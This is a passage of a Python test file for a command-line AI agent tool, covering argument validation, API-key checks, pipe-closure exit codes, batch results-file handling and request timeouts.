    assert out.returncode == 2 and "--resume and --overwrite contradict each other" in out.stderr


def test_a_new_workspace_folder_is_noted_and_a_serve_key_with_a_line_break_refused(tmp_path, script):
    out = agent("run", "x", "--workspace", "typo/deep", "--model", f"scripted:{script}", cwd=tmp_path)
    assert out.returncode == 0 and "note: made the folder typo/deep (--workspace): it did not exist" in out.stderr
    out = agent("run", "x", "--workspace", "typo/deep", "--model", f"scripted:{script}", cwd=tmp_path)
    assert "made the folder" not in out.stderr
    out = agent("serve", "--api-key", "a\nb", "--model", f"scripted:{script}", cwd=tmp_path)
    assert out.returncode == 2 and "control character" in out.stderr
    env_key = {**os.environ, "PYTHONPATH": str(ROOT), "AGENT_SERVE_API_KEY": "a\nb"}
    out = subprocess.run(
        [sys.executable, "-m", "agent", "serve", "--model", f"scripted:{script}"],
        cwd=tmp_path, env=env_key, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert out.returncode == 2 and "$AGENT_SERVE_API_KEY: the key holds a control character" in out.stderr


def test_a_key_that_is_not_ascii_is_refused(tmp_path, script):
    # headers are bytes: a client sends UTF-8 and the server read Latin-1, so it never matched
    out = agent("serve", "--api-key", "sécret", "--model", f"scripted:{script}", cwd=tmp_path)
    assert out.returncode == 2 and "not ASCII" in out.stderr


def test_a_reader_that_leaves_a_batchs_output_ends_it_quietly_with_141(tmp_path):
    # stdout and stderr into one pipe whose reader leaves after a line (`2>&1 | head -1`):
    # rich's console exited 1 there, with no word of why.
    tasks = [{"id": f"t{i}", "prompt": "say ok"} for i in range(6)]
    (tmp_path / "tasks.jsonl").write_text("".join(json.dumps(t) + "\n" for t in tasks))
    (tmp_path / "script.jsonl").write_text(json.dumps({"content": "ok", "delay": 0.3}) + "\n")
    command = ["batch", "tasks.jsonl", "-o", "r.jsonl", "--model", "scripted:script.jsonl"]
    process = subprocess.Popen(
        [sys.executable, "-m", "agent", *command],
        cwd=tmp_path,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
    )
    first = process.stdout.readline()
    process.stdout.close()
    process.wait(timeout=120)
    assert first and process.returncode == 141


def test_a_tool_group_named_twice_is_taken_once(tmp_path, script):
    out = agent("run", "x", "--tools", "files, files", "--model", f"scripted:{script}", cwd=tmp_path)
    assert out.returncode == 0, out.stderr  # not "two tools share the name 'edit_file'"


def test_a_results_folder_made_for_batch_is_noted(tmp_path, script):
    tasks_file(tmp_path)
    out = agent("batch", "tasks.jsonl", "-o", "typo/r.jsonl", "--model", f"scripted:{script}", cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    assert "note: made the folder typo (-o): it did not exist" in out.stderr  # a mistyped path is not silent


def test_batch_says_what_its_results_file_refuses_before_a_model_loads(tmp_path, script):
    tasks_file(tmp_path)
    first = agent("batch", "tasks.jsonl", "-o", "r.jsonl", "--model", f"scripted:{script}", cwd=tmp_path)
    assert first.returncode == 0, first.stderr
    # A model that cannot load: the results file's refusal comes first (it came after the load).
    missing = str(tmp_path / "no-such-model")
    out = agent("batch", "tasks.jsonl", "-o", "r.jsonl", "--model", missing, cwd=tmp_path)
    assert out.returncode == 2 and "r.jsonl already has results; pass --resume" in out.stderr, out.stderr
    out = agent("batch", "tasks.jsonl", "-o", "results/", "--model", f"scripted:{script}", cwd=tmp_path)
    assert out.returncode == 2 and "-o results/ names a folder" in out.stderr
    assert not (tmp_path / "results").exists()  # was written as a file named "results"


def test_request_timeout_sets_how_long_a_server_may_take_to_answer(tmp_path):
    server = _Server(hang=True)  # takes the request and never answers
    try:
        started = time.monotonic()
        out = agent(
            "run", "x", "--base-url", server.base_url, "--context-window", "4096", "--request-timeout", "0.5",
            cwd=tmp_path,
        )  # fmt: skip
        took = time.monotonic() - started
    finally:
        server.close()
    assert out.returncode == 1 and "timed out after 0.5 s" in out.stderr, out.stderr
    assert "Traceback" not in out.stderr and took < 30  # the default would have waited 120 s
